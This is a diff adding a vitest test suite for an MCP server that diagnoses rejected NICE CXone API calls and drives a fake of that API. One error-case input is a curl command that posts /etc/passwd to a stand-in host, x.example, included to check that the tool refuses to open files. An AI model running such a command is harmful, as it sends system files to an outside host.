@@ -1,0 +1,176 @@
+import { fileURLToPath } from 'node:url';
+import { Client } from '@modelcontextprotocol/sdk/client/index.js';
+import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
+import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { type FakeCxone, startFakeCxone } from '../index.ts';
+
+const BIN = fileURLToPath(new URL('../../bin.js', import.meta.url));
+const CALL = '/ccapi/v2/outbound/personal-connection/call';
+const THREAD = `curl -X POST https://api.nice-incontact.com${CALL} -H 'Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJzZWNyZXQtc3ViamVjdCJ9.c2lnbmF0dXJlLW9mLW1pbmU' -H 'Content-Type: application/json' -d '{"contact":{"externalId":"ext-12345","phone":"+15550199"},"campaignId":"camp-abc-123","scriptId":"script-xyz-999"}'`;
+const RIGHT =
+  '{"contact":{"externalId":"ext-12345","phoneNumbers":[{"phoneType":"mobile","number":"+15550199999"}]},"campaignId":"camp-pc-001","scriptId":"script-xyz-999"}';
+
+interface Called {
+  readonly data: Readonly<Record<string, unknown>>;
+  readonly text: string;
+  readonly isError: boolean;
+}
+
+async function call(client: Client, name: string, args: Record<string, unknown> = {}): Promise<Called> {
+  const result = await client.callTool({ name, arguments: args });
+  const [content] = result.content as { text: string }[];
+  return {
+    data: (result.structuredContent ?? {}) as Called['data'],
+    text: content?.text ?? '',
+    isError: result.isError === true,
+  };
+}
+
+const newClient = () => new Client({ name: 'test', version: '1.0.0' });
+const OVER = { stdio: 'stdio', http: 'HTTP' } as const;
+
+describe.each(Object.values(OVER))('an assistant over %s', (transport) => {
+  const client = newClient();
+  let fake: FakeCxone | undefined;
+
+  beforeAll(async () => {
+    if (transport === OVER.stdio) {
+      await client.connect(new StdioClientTransport({ command: process.execPath, args: [BIN, 'mcp'], stderr: 'pipe' }));
+      return;
+    }
+    fake = await startFakeCxone({});
+    await client.connect(new StreamableHTTPClientTransport(new URL(`${fake.url}/_fake/mcp`)));
+  });
+  afterAll(async () => {
+    await client.close();
+    await fake?.close();
+  });
+
+  test('finds the tools, each with a schema and a hint whether it only reads', async () => {
+    const { tools } = await client.listTools();
+    expect(tools.map(({ name }) => name)).toEqual([
+      'explain_rejection',
+      'check_payload',
+      'compare_variants',
+      'find_operation',
+      'show_evidence',
+      'start_fake',
+      'list_exchanges',
+      'set_override',
+      'verify_requests',
+    ]);
+    expect(tools.every(({ inputSchema, annotations }) => inputSchema.type === 'object' && annotations)).toBe(true);
+  });
+
+  test("asks the thread's question and is told the cause with its evidence, and without the token", async () => {
+    const { data, text } = await call(client, 'explain_rejection', {
+      request: THREAD,
+      text: '400 Bad Request - invalid campaign id for personal connection',
+    });
+    const [first] = data['findings'] as { code: string; evidence: { grade: string; claims: { id: string }[] } }[];
+    expect(data['verdict']).toMatchObject({ kind: 'narrowed' });
+    expect(first?.evidence.grade).toMatch(/^(official|observed|claimed|assumed)$/);
+    expect(first?.evidence.claims.length).toBeGreaterThan(0);
+    expect(`${JSON.stringify(data)}${text}`).not.toMatch(/secret-subject|eyJzdWIi|c2lnbmF0/);
+    expect(text).toContain('contact.phone');
+  });
+
+  test('checks a payload, right and wrong', async () => {
+    expect((await call(client, 'check_payload', { request: RIGHT })).data['verdict']).toMatchObject({ kind: 'right' });
+    const wrong = await call(client, 'check_payload', { request: THREAD });
+    expect(wrong.data['findings']).toContainEqual(expect.objectContaining({ code: 'contact-flat-phone' }));
+    expect(wrong.data['corrected']).toMatchObject({ payload: { contact: { phoneNumbers: expect.anything() } } });
+  });
+
+  test('compares variants, and says which change the verdict', async () => {
+    const { data } = await call(client, 'compare_variants', { request: THREAD, variant: 'flat-phone' });
+    expect(data['changing']).toContainEqual(
+      expect.objectContaining({ variant: 'flat-phone', value: 'accept', evidence: expect.anything() }),
+    );
+    const { data: one } = await call(client, 'compare_variants', { variant: 'scope' });
+    expect(one['variants']).toHaveLength(1);
+  });
+
+  test('finds operations by words and by path', async () => {
+    const { data } = await call(client, 'find_operation', { query: `/inContactAPI/services/v30.0/skills/4001/start` });
+    expect((data['operations'] as { id: string }[])[0]?.id).toBe('startSkill');
+    const byWords = await call(client, 'find_operation', { query: 'calling list upload', method: 'post' });
+    expect((byWords.data['operations'] as { id: string }[]).map(({ id }) => id)).toContain('uploadCallingList');
+    expect((await call(client, 'find_operation', { query: 'teleport' })).data['note']).toContain('no operation');
+  });
+
+  test('shows evidence, or that there is no source', async () => {
+    const claim = await call(client, 'show_evidence', { about: 'ep-01' });
+    expect(claim.data['evidence']).toMatchObject({ grade: 'claimed', claims: [{ id: 'EP-01' }] });
+    const finding = await call(client, 'show_evidence', { about: 'contact-flat-phone' });
+    expect(finding.data['evidence']).toHaveProperty('claims');
+    expect((await call(client, 'show_evidence', { about: 'quantum dialer' })).data['grade']).toBe('no source');
+  });
+
+  test('uses a fake: starts it, makes it fail, and sees what came', async () => {
+    const { data } = await call(client, 'start_fake');
+    const send = () =>
+      fetch(`${data['url']}${CALL}`, {
+        method: 'POST',
+        headers: { Authorization: 'Bearer fake-pc-write', 'Content-Type': 'application/json' },
+        body: RIGHT,
+      });
+    expect((await send()).status).toBe(202);
+    const set = await call(client, 'set_override', { fault: { answer: { status: 503 } } });
+    expect(set.isError, set.text).toBe(false);
+    expect((await send()).status).toBe(503);
+    const { data: journal } = await call(client, 'list_exchanges', { filter: { status: 503 } });
+    expect(journal['exchanges']).toHaveLength(1);
+    const verified = await call(client, 'verify_requests', {
+      expectations: [{ operation: 'placeCall', count: { exactly: 2 } }],
+    });
+    expect(verified.data['ok'], verified.text).toBe(true);
+    expect((await call(client, 'set_override', { clear: true })).data['faults']).toEqual([]);
+  });
+
+  test.each([
+    ['explain_rejection', {}, 'request'],
+    ['explain_rejection', { request: '   ' }, 'request cannot be read'],
+    ['explain_rejection', { request: 'curl https://x.example -d @/etc/passwd' }, 'files are not opened'],
+    ['check_payload', { request: RIGHT, variants: { scope: 'eiter' } }, 'either'],
+    ['compare_variants', { variant: 'scop' }, 'scope'],
+    ['show_evidence', { about: 'EP-999' }, 'EP-'],
+    ['set_override', { scenario: 'no-such' }, 'no-such'],
+    ['set_override', { fault: { status: 'x' } }, 'status'],
+    ['no_such_tool', {}, 'explain_rejection'],
+  ])('is told what is wrong with %s %j', async (name, args, part) => {
+    if (name === 'set_override') await call(client, 'start_fake');
+    const { isError, text } = await call(client, name, args);
+    expect(text).toContain(part);
+    expect(isError).toBe(true);
+  });
+
+  test('reads resources', async () => {
+    const { resources } = await client.listResources();
+    for (const { uri } of resources) {
+      const { contents } = await client.readResource({ uri });
+      expect(JSON.parse((contents[0] as { text: string }).text)).toBeTruthy();
+    }
+    await expect(client.readResource({ uri: 'fake-cxone://nothing' })).rejects.toThrow('fake-cxone://claims');
+  });
+});
+
+describe('/_fake/mcp', () => {
+  test('is behind the gate of the admin API', async () => {
+    const fake = await startFakeCxone({ adminToken: 'admin-token-1' });
+    const ask = (headers: Record<string, string>) =>
+      fetch(`${fake.url}/_fake/mcp`, {
+        method: 'POST',
+        headers: { 'Content-Type': 'application/json', Accept: 'application/json, text/event-stream', ...headers },
+        body: '{"jsonrpc":"2.0","id":1,"method":"tools/list"}',
+      }).then(({ status }) => status);
+    expect(await ask({})).toBe(401);
+    expect(await ask({ Authorization: 'Bearer admin-token-1' })).toBe(200);
+    expect(await ask({ Authorization: 'Bearer admin-token-1', Origin: 'https://other.example' })).toBe(403);
+    expect((await fetch(`${fake.url}/_fake/mcp`, { headers: { Authorization: 'Bearer admin-token-1' } })).status).toBe(
+      405,
+    );
+    await fake.close();
+  });
+});
